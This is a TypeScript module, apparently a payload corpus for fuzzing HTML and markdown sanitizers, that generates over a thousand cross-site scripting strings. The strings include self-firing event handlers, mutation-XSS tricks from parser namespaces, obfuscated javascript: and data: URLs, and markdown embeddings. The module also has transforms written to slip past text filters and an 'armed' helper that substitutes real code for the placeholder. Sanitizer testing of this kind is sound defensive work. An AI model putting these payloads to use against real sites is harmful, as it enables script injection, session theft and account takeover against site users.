/**
 * Markup that runs something, made of what is publicly known to run: event handlers that need no
 * hand on the page, addresses that run, other namespaces, things that change when parsed twice, and
 * the ways to hide all that. `RUN` stands for the code.
 */
const handlers: readonly string[] = [
  '<img src=x onerror=RUN>',
  '<img src=x:x onerror="RUN">',
  "<img src='data:,' onerror='RUN'>",
  '<img srcset=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<img src=/picture onload=RUN onerror=RUN>',
  '<video src=x onerror=RUN></video>',
  '<video><source onerror=RUN src=x></video>',
  '<video onloadstart=RUN src=x></video>',
  '<audio src=x onerror=RUN></audio>',
  '<audio onloadstart=RUN src=x></audio>',
  '<audio><source src=x onerror=RUN></audio>',
  '<input autofocus onfocus=RUN>',
  '<input type=image src=x onerror=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<button autofocus onfocus=RUN>x</button>',
  '<a href=# autofocus onfocus=RUN>x</a>',
  '<div tabindex=1 autofocus onfocus=RUN>x</div>',
  '<p contenteditable autofocus onfocus=RUN>x</p>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<svg onload=RUN></svg>',
  '<svg/onload=RUN>',
  '<svg><image href=x onerror=RUN></image></svg>',
  '<svg><image xlink:href=x onerror=RUN /></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>',
  '<svg><set onbegin=RUN attributeName=x dur=1s></set></svg>',
  '<svg><animateTransform onbegin=RUN attributeName=x dur=1s></animateTransform></svg>',
  '<svg><a><animate onbegin=RUN attributeName=href dur=1s></animate></a></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math><mi><img src=x onerror=RUN></mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '<iframe onload=RUN></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.RUN>"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe src="data:text/html,<script>parent.RUN</script>" onload=RUN></iframe>',
  '<object data=x onerror=RUN></object>',
  '<object data="javascript:RUN"></object>',
  '<embed src=x onload=RUN onerror=RUN>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<link rel=stylesheet href="data:text/css," onload=RUN>',
  '<style onload=RUN></style>',
  '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>x</b>',
  '<style>@keyframes k{}</style><p style="animation:1ms k" onanimationend=RUN>x</p>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<table><td><img src=x onerror=RUN></table>',
  '<table background=x><tr onclick=RUN><td><img src=x onerror=RUN></td></tr></table>',
  '<marquee onstart=RUN>x</marquee>',
  '<script>RUN</script>',
  '<script src="data:,RUN"></script>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<dialog open><img src=x onerror=RUN></dialog>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  '<p title="--><img src=x onerror=RUN>"><!--',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<?xml ><img src=x onerror=RUN>?>',
  '<textarea></textarea><img src=x onerror=RUN>',
  '<title></title><img src=x onerror=RUN>',
  '<select><option></select><img src=x onerror=RUN>',
  '<a><b><a><img src=x onerror=RUN>',
  '<plaintext hidden></plaintext><img src=x onerror=RUN>',
];

/** Ways to write the same, so that a filter of texts would not know it again. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.toUpperCase().replaceAll(/RUN/g, 'RUN'),
  (markup) => markup.replaceAll(' on', '\non'),
  (markup) => markup.replaceAll(' on', '\t/\fon'),
  (markup) => markup.replaceAll('=RUN', ' = "RUN" '),
  (markup) => `<div><p>${markup}`,
  (markup) => `"><b x='${'y'.repeat(20)}'>${markup}</b>`,
  (markup) => `<table><caption>${markup}</caption></table>`,
  (markup) => `${'<div>'.repeat(60)}${markup}`,
  (markup) => `<p>您好</p>\u0000${markup}`,
];

/** Addresses that run when they are gone to, in every spelling of it that browsers forgive. */
export const runningAddresses: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001javascript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A;avascript:RUN',
  'javascript&#58;RUN',
  'java&Tab;script:RUN',
  'java&NewLine;script:RUN',
  'javascript://%0aRUN',
  'javascript:/*--></title></style>*/RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=RUN>',
  'blob:https://firm.example/x',
  'filesystem:https://firm.example/x',
  'file:///etc/passwd',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'intent:RUN',
  'ms-appx:RUN',
];

const inLinks = runningAddresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_self>x</a>`,
  `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  `<math href="${address}">x</math>`,
  `<form action="${address}"><button>x</button></form>`,
  `<button form=f formaction="${address}">x</button>`,
  `<img src="${address}">`,
  `<img srcset="${address} 2x">`,
  `<area href="${address}">`,
  `<base href="${address}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<video poster="${address}"></video>`,
  `<body background="${address}">`,
]);

const inMarkdown = [
  ...runningAddresses.flatMap((address) => [
    `[x](${address})`,
    `![x](${address})`,
    `<${address}>`,
    `[x]: ${address}\n\n[x]`,
    `[x](<${address}> "title")`,
  ]),
  ...handlers.flatMap((markup) => [
    markup,
    `\`\`\`html\n${markup}\n\`\`\``,
    `> ${markup}`,
    `[${markup}](https://firm.example)`,
    `![${markup}](https://firm.example/x.png "${markup}")`,
  ]),
];

/** A text, and what it claims to be. */
export interface Payload {
  readonly format: 'html' | 'markdown';
  readonly text: string;
}

/** More than a thousand of them. */
export const payloads: readonly Payload[] = [
  ...handlers.flatMap((markup) => disguises.map((disguise) => disguise(markup))),
  ...inLinks,
]
  .map((text): Payload => ({format: 'html', text}))
  .concat(inMarkdown.map((text) => ({format: 'markdown', text})));

/** The payload with the code that reports it. */
export const armed = (text: string, code: string): string => text.replaceAll('RUN', code);
